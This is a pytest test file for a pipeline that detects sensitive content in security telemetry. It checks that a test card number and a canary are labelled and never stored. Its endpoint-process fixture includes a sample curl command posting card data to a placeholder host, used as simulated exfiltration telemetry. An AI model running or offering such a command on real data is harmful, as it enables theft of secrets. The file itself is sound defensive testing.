"""What records carry of people's content is labelled in memory, and nothing of it is found afterwards."""

from __future__ import annotations

import gzip
from pathlib import Path
from typing import Any

import orjson
import pytest

from fanlight.inputs.commits import Committer
from fanlight.inputs.drops import Folder
from fanlight.inputs.senders import add_sender, list_senders
from fanlight.model import EVENT_PART, Match, Reading
from fanlight.pipeline.home import Home
from inputs.conftest import Listening
from support.canaries import find_leaks_apart

CARD = "4111 1111 1111 1111"
CANARY = "lantern-quarry-mosaic-77120"
PROXY = {
    "epochtime": 1795144500, "recordid": 1, "login": "ana.rao@example.com", "host": "search.example.net",
    "action": "Allowed", "url": f"search.example.net/find?q={CANARY}+{CARD.replace(' ', '+')}",
    "upload_filename": f"card {CARD} {CANARY}.xlsx",
}  # fmt: skip
DRIVE = {
    "id": {"time": "2026-11-20T03:00:00Z", "uniqueQualifier": "77", "applicationName": "drive"},
    "actor": {"email": "ana.rao@example.com", "profileId": "100"},
    "events": [{"type": "access", "name": "view", "parameters": [
        {"name": "doc_id", "value": "d1"}, {"name": "doc_title", "value": f"Card {CARD} of {CANARY}"}]}],
}  # fmt: skip
PROCESS = {
    "event_simpleName": "ProcessRollup2", "timestamp": "1795144500000", "aid": "a" * 32,
    "id": "process-record-4471-of-ana",
    "CommandLine": f"curl -d '{CARD}' https://a.example/{CANARY}",
}  # fmt: skip
PROMPT = {
    "id": "response-record-4471-of-ana", "object": "response", "created_at": 1795144500,
    "input": f"Charge {CARD}, {CANARY}",
    "output": f"Charged {CARD}", "user": "ana.rao@example.com",
}  # fmt: skip
SENT = {"zscaler_zia": PROXY, "google_workspace": DRIVE, "crowdstrike": PROCESS, "openai": PROMPT}


def post(listening: Listening, kind: str, *records: Any) -> None:
    body = b"".join(orjson.dumps({"event": record}) for record in records)
    headers = {**listening.sender(kind, kind), "Content-Encoding": "gzip"}
    answer = listening.client.post("/services/collector", headers=headers, content=gzip.compress(body))
    assert answer.json() == {"text": "Success", "code": 0}


def matches_of(home: Home) -> list[Match]:
    with home.reader() as reader:
        return reader.rows(Match)


@pytest.mark.parametrize("kind", sorted(SENT))
def test_content_in_collector_records_leaves_labels_and_no_trace(listening: Listening, kind: str) -> None:
    post(listening, kind, SENT[kind])
    (event,) = listening.stored()
    found = [match for match in matches_of(listening.home) if match.category == "PAYMENT_CARD"]
    assert found
    assert {match.source for match in found} == {kind}
    assert {match.owner_account for match in found} == {event.account_key}
    assert all(match.part_id.startswith(f"{EVENT_PART}{event.event_id}#") for match in found)
    digits = CARD.replace(" ", "")
    assert find_leaks_apart([listening.home.path], [CANARY, CARD, digits, CARD.replace(" ", "+")]) == []
    assert find_leaks_apart([listening.home.path], [event.event_id]) != []


def test_the_same_text_in_many_records_is_read_once_and_labels_each_of_them(listening: Listening) -> None:
    records = [{**PROXY, "recordid": number, "url": "a.example/x"} for number in range(300)]
    post(listening, "zscaler_zia", *records[:150])
    post(listening, "zscaler_zia", *records)
    cards = [match for match in matches_of(listening.home) if match.category == "PAYMENT_CARD"]
    assert len(cards) == len({match.object_id for match in cards}) == 300
    assert {match.object_id for match in cards} == {event.event_id for event in listening.stored()}


@pytest.mark.parametrize(
    ("url", "read"),
    [
        ("claude.ai/api/organizations/12345", False),
        ("https://a.long-name-of-a-host.example.com/login", False),
        (f"a.example/pay?card={CARD.replace(' ', '')}", True),
        (f"a.example/pay/{CARD.replace(' ', '')}", True),
        ("a.example/u/ana.rao@example.com", True),
    ],
)
def test_only_addresses_that_can_hold_something_are_read(
    listening: Listening, url: str, read: bool, monkeypatch: pytest.MonkeyPatch
) -> None:
    asked: list[int] = []
    plain = {name: value for name, value in PROXY.items() if name != "upload_filename"}
    from fanlight.labels import Labeller

    real = Labeller.read_parts

    def counted(self: Labeller, ref: Any, parts: Any, **rest: Any) -> Any:
        asked.append(len(parts))
        return real(self, ref, parts, **rest)

    monkeypatch.setattr(Labeller, "read_parts", counted)
    post(listening, "zscaler_zia", {**plain, "url": url})
    assert asked == ([1] if read else [])


def test_what_could_not_be_read_is_said_and_never_clean(listening: Listening, monkeypatch: pytest.MonkeyPatch) -> None:
    from fanlight.labels import Labeller

    monkeypatch.setattr(Labeller, "label_texts", lambda self, texts, abouts: [None for _ in texts])
    post(listening, "zscaler_zia", PROXY)
    with listening.home.reader() as reader:
        readings = reader.rows(Reading)
    (event,) = listening.stored()
    assert {(one.object_kind, one.object_id, one.outcome) for one in readings} == {
        ("event", event.event_id, "could_not_read")
    }
    assert find_leaks_apart([listening.home.path], [CANARY]) == []


def test_files_in_a_folder_are_labelled_the_same_way(home: Home, tmp_path: Path) -> None:
    folder = tmp_path / "drop"
    folder.mkdir()
    add_sender(home, "proxy", "zscaler_zia", folder=folder)
    (folder / "a.jsonl").write_bytes(orjson.dumps(PROXY) + b"\n")
    committer = Committer(home, home.state.take_lease("inputs", 600), linger=0.02)
    assert Folder(home, committer, list_senders(home)[0]).look() == 1
    committer.close()
    assert {match.category for match in matches_of(home)} >= {"PAYMENT_CARD"}
    assert find_leaks_apart([home.path], [CANARY, CARD]) == []
